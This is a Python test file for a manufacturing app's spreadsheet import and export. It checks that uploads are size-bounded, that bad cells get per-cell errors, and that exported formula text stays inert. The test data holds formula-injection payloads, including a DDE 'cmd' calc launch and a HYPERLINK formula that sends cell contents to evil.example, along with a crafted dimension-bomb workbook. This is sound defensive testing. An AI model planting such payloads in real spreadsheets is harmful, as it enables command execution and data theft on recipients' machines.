"""Hostile spreadsheets in, stored text out: imports stay bounded, exports stay inert.

Each test here failed on the code before the hardening: the dimension bomb cost ~1 GB,
limits were fixed or missing, a long CSV field was a 500, the import parsed on the event
loop, exports wrote live formulas and a control character in a name broke XLSX.
"""

from __future__ import annotations

import csv
import io
import re
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from linewise.cli.main import main
from linewise.config import Settings, get_settings
from linewise.domains.inventory.models import Material
from linewise.exchange import api as exchange_api
from linewise.exchange.sheets import columns
from tests.conftest import World, login

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]


def _xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _claim_dimension(body: bytes, ref: str) -> bytes:
    """The same workbook, its sheet's <dimension> rewritten to claim ``ref``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data
                )
                assert n == 1
            zout.writestr(info, data)
    return out.getvalue()


def _upload(c: TestClient, sheet: str, name: str, body: bytes, **params: object):  # type: ignore[no-untyped-def]
    return c.post(f"/api/v1/import/{sheet}", files={"file": (name, body)}, params=params)


def _materials(db: Session, names: list[str]) -> None:
    db.add_all(Material(code=f"M{i:02d}", name=n, unit="pcs") for i, n in enumerate(names))
    db.commit()


def test_dimension_bomb_reads_only_the_real_rows(
    as_role: dict[str, TestClient], world: World
) -> None:
    # Two real rows, a blank-looking cell in row 8000 and a claim of 16,384 columns.
    rows: list[list[object]] = [["code", "name", "unit"], ["M1", "Tape", "pcs"]]
    body = _claim_dimension(_xlsx([*rows, *[[] for _ in range(7997)], [" "]]), "A1:XFD8000")
    assert len(body) < 8000
    tracemalloc.start()
    try:
        started = time.monotonic()
        r = _upload(as_role["planner"], "materials", "m.xlsx", body)
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert r.status_code == 200, r.text
    assert (r.json()["rows"], r.json()["created"]) == (1, 1)
    # Trusting the claim padded 8000 rows to 16,384 cells each: about 1 GB.
    assert peak < 50 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    assert elapsed < 10


def test_upload_over_the_byte_limit_is_413_naming_the_setting(
    as_role: dict[str, TestClient], world: World, settings: Settings
) -> None:
    settings.import_max_bytes = 1000
    planner = as_role["planner"]
    small_file = b"code,name\n" + b"".join(b"M%d,Material %d\n" % (i, i) for i in range(100))
    r = _upload(planner, "products", "p.csv", small_file)  # ~1.9 KB: caught after parsing
    assert r.status_code == 413, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert "LINEWISE_IMPORT_MAX_BYTES" in r.json()["detail"]
    assert r.json()["limit"] == 1000
    big = small_file * 100  # ~190 KB: refused on its Content-Length, before reading it
    r = _upload(planner, "products", "p.csv", big)
    assert r.status_code == 413, r.text
    assert r.json()["errors"][0]["field"] == "file"

    # Chunked, no Content-Length: refused once what has arrived passes the limit.
    boundary = "b0undary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()

    def chunks() -> Iterator[bytes]:
        yield head
        for _ in range(20):
            yield big[:10_000]
        yield f"\r\n--{boundary}--\r\n".encode()

    r = planner.post(
        "/api/v1/import/products",
        content=chunks(),
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    assert r.status_code == 413, r.text
    assert "LINEWISE_IMPORT_MAX_BYTES" in r.json()["detail"]
    assert planner.get("/api/v1/products").json()["total"] == 1  # the world's only


def test_too_many_rows_or_columns_is_refused_naming_the_limit(
    as_role: dict[str, TestClient], world: World, settings: Settings
) -> None:
    settings.import_max_rows = 5
    settings.import_max_columns = 10
    planner = as_role["planner"]
    rows = "".join(f"M{i},Material {i},pcs\n" for i in range(6))
    r = _upload(planner, "materials", "m.csv", ("code,name,unit\n" + rows).encode())
    assert r.status_code == 413, r.text
    assert "LINEWISE_IMPORT_MAX_ROWS" in r.json()["detail"]
    assert r.json()["errors"][0]["row"] == 7  # the first row past the limit
    # Five rows fit, blank lines do not count.
    r = _upload(planner, "materials", "m.csv", ("code,name,unit\n\n" + rows[:-19]).encode())
    assert (r.status_code, r.json().get("created")) == (200, 5), r.text

    wide = [["code", "name", "unit"], ["W1", "Wide", "pcs", *[""] * 20, "x"]]
    r = _upload(planner, "materials", "w.xlsx", _xlsx(wide))
    assert r.status_code == 422, r.text
    assert "LINEWISE_IMPORT_MAX_COLUMNS" in r.json()["detail"]
    assert r.json()["errors"][0]["row"] == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_long_cell_is_422_with_row_and_column(
    as_role: dict[str, TestClient], world: World, settings: Settings, fmt: str
) -> None:
    planner = as_role["planner"]
    rows: list[list[object]] = [["code", "name", "unit"], ["M1", "Tape", "pcs"]]
    if fmt == "csv":
        # Over the csv module's own 131,072-character field limit, which used to be a 500.
        rows.append(["M2", "x" * 140_000, "pcs"])
        body = "".join(",".join(map(str, r)) + "\n" for r in rows).encode()
    else:
        # openpyxl cuts what it writes at Excel's 32,767; a lower limit shows the check.
        settings.import_max_cell_chars = 10_000
        rows.append(["M2", "x" * 20_000, "pcs"])
        body = _xlsx(rows)
    r = _upload(planner, "materials", f"m.{fmt}", body)
    assert r.status_code == 422, r.text
    problem = r.json()
    assert [(e["row"], e["column"]) for e in problem["errors"]] == [(3, "name")]
    assert "LINEWISE_IMPORT_MAX_CELL_CHARS" in problem["errors"][0]["message"]
    assert problem["rejected_rows"] == [3]
    assert planner.get("/api/v1/export/materials").text == "code,name,unit\n"


def test_control_characters_in_names_are_refused_by_cell(
    as_role: dict[str, TestClient], world: World
) -> None:
    body = b"code,name,unit\nM1,tape\x18reel,pcs\nM2,Tape,pcs\nM3,nul\x00byte,pcs\n"
    r = _upload(as_role["planner"], "materials", "m.csv", body)
    assert r.status_code == 422, r.text
    errors = r.json()["errors"]
    assert [(e["row"], e["column"]) for e in errors] == [(2, "name"), (4, "name")]
    assert "U+0018" in errors[0]["message"]
    assert "U+0000" in errors[1]["message"]


# One valid row per sheet (in the conftest world), and values to put in each cell in turn.
VALID_ROWS = {
    "products": ["P-X", "Prod", "fam"],
    "materials": ["M-X", "Mat", "pcs"],
    "routings": ["CTRL-100", "1", "SMT", "SMT", "SMT-1", "30", "0", "", "", "true", "0", ""],
    "bom": ["CTRL-100", "M-0", "1"],
    "operators": ["O-1", "Op", "smt", "SMT", "", "true"],
    "orders": ["PO-1", "CTRL-100", "5", "2030-01-10", "", "3", "", ""],
}
HOSTILE_CELLS = [
    "",
    "-1",
    "1e309",
    "NaN",
    "9223372036854775808",
    "2147483648",
    "x" * 61,  # past the 60-character columns
    "x" * 201,
    "=1+1",
    "2030-13-45",
    "0001-01-01T00:00:00+14:00",
    "SMT;SMT",  # an area twice broke a unique key
    "nul\x00",
]


@pytest.mark.parametrize("sheet", list(VALID_ROWS))
def test_no_cell_value_is_a_server_error(app: FastAPI, world: World, sheet: str) -> None:
    client = login(TestClient(app, raise_server_exceptions=False), "admin")
    client.post("/api/v1/import/materials", files={"file": ("m.csv", b"code,name\nM-0,M\n")})
    cols = columns(sheet)
    failures = []
    for index, column in enumerate(cols):
        for value in HOSTILE_CELLS:
            row = list(VALID_ROWS[sheet])
            row[index] = value
            out = io.StringIO()
            csv.writer(out).writerows([cols, row])
            r = _upload(client, sheet, "f.csv", out.getvalue().encode(), dry_run="true")
            if r.status_code >= 500:
                failures.append((column, value[:12], r.status_code))
            elif r.status_code == 422:
                assert {e["column"] for e in r.json()["errors"]} <= set(cols), r.text
    assert failures == []


def test_out_of_range_numbers_are_cell_errors(as_role: dict[str, TestClient], world: World) -> None:
    header = "product_code,seq,name,work_center_type,line_code,cycle_time_s\n"
    body = (
        header
        + "CTRL-100,99999999999,SMT,SMT,SMT-1,30\n"  # past a 32-bit column: was a 500 on PG
        + "CTRL-100,2,Test,TEST,TEST-1,inf\n"
        + "CTRL-100,3,Pack,TEST,TEST-1,nan\n"
    ).encode()
    r = _upload(as_role["planner"], "routings", "r.csv", body)
    assert r.status_code == 422, r.text
    cells = [(e["row"], e["column"]) for e in r.json()["errors"]]
    assert cells == [(2, "seq"), (3, "cycle_time_s"), (4, "cycle_time_s")]


def test_dates_beyond_what_can_be_stored_are_cell_errors(
    as_role: dict[str, TestClient], world: World
) -> None:
    body = (
        b"number,product_code,quantity,due_date,release_date\n"
        b"PO-1,CTRL-100,5,9999-12-31T23:59:59-14:00,\n"  # no UTC for it: was a 500
        b"PO-2,CTRL-100,5,2030-01-10,0001-01-01T00:00:00+14:00\n"
        b"PO-3,CTRL-100,5,2030-01-10,2030-01-01\n"
    )
    r = _upload(as_role["planner"], "orders", "o.csv", body)
    assert r.status_code == 422, r.text
    cells = [(e["row"], e["column"]) for e in r.json()["errors"]]
    assert cells == [(2, "due_date"), (3, "release_date")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_write_formula_text_as_inert_text(
    as_role: dict[str, TestClient], world: World, db: Session, fmt: str
) -> None:
    _materials(db, FORMULAS)
    r = as_role["planner"].get("/api/v1/export/materials", params={"format": fmt})
    assert r.status_code == 200, r.text
    if fmt == "csv":
        names = [row[1] for row in csv.reader(io.StringIO(r.text))][1:]
        # The export trims surrounding blanks, so "\t=1+1" is written as "'=1+1".
        assert names == ["'" + n.strip() for n in FORMULAS]
    else:
        ws = load_workbook(io.BytesIO(r.content)).active
        assert ws is not None
        cells = [row[1] for row in ws.iter_rows(min_row=2)]
        assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)
        assert [c.value for c in cells] == [n.replace("\r", "\n") for n in FORMULAS]


def test_exported_csv_imports_back_unchanged(
    as_role: dict[str, TestClient], world: World, db: Session
) -> None:
    planner = as_role["planner"]
    names = [n.strip() for n in FORMULAS] + ["'quoted", "-5", "'=quoted", "''+2"]
    _materials(db, names)
    body = planner.get("/api/v1/export/materials").content
    r = _upload(planner, "materials", "m.csv", body)
    assert (r.status_code, r.json().get("updated")) == (200, len(names)), r.text
    assert planner.get("/api/v1/export/materials").content == body


def test_stored_control_character_does_not_break_xlsx_export(
    as_role: dict[str, TestClient], world: World, db: Session
) -> None:
    _materials(db, ["tape\x18reel"])
    r = as_role["planner"].get("/api/v1/export/materials", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    assert ws["B2"].value == "tape\ufffdreel"
    csv_text = as_role["planner"].get("/api/v1/export/materials").text
    assert "tape\x18reel" in csv_text  # CSV carries the stored text as it is


def test_health_answers_while_an_import_is_parsed(
    app: FastAPI, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    started, release = threading.Event(), threading.Event()
    real_read_rows = exchange_api.read_rows

    def gated_read_rows(*args: object, **kwargs: object) -> object:
        started.set()  # the import is parsing; hold it there until /health has answered
        release.wait(10)
        return real_read_rows(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(exchange_api, "read_rows", gated_read_rows)
    body = b"code,name,unit\nM1,Tape,pcs\n"
    with TestClient(app) as client:  # one event loop for both requests, as in a server
        login(client, "planner")
        result: dict[str, int] = {}
        upload = threading.Thread(
            target=lambda: result.update(
                status=_upload(client, "materials", "m.csv", body).status_code
            )
        )
        upload.start()
        try:
            assert started.wait(10), "the import never started"
            t0 = time.monotonic()
            health = client.get("/api/v1/health")
            waited = time.monotonic() - t0
        finally:
            release.set()
            upload.join(30)
    assert health.status_code == 200
    assert waited < 1, f"/health waited {waited:.1f} s behind the import"
    assert result == {"status": 200}


def test_cli_import_applies_the_limits(
    engine: Engine, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "materials.csv"
    path.write_text("code,name,unit\n" + "".join(f"M{i},Material {i},pcs\n" for i in range(4)))
    monkeypatch.setenv("LINEWISE_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("LINEWISE_IMPORT_MAX_ROWS", "3")
    get_settings.cache_clear()
    try:
        refused = CliRunner().invoke(main, ["import", "materials", str(path)])
        monkeypatch.setenv("LINEWISE_IMPORT_MAX_ROWS", "4")
        get_settings.cache_clear()
        done = CliRunner().invoke(main, ["import", "materials", str(path)])
    finally:
        get_settings.cache_clear()
    assert refused.exit_code == 1
    assert "LINEWISE_IMPORT_MAX_ROWS" in refused.output
    assert done.exit_code == 0, done.output
    assert "4 created" in done.output
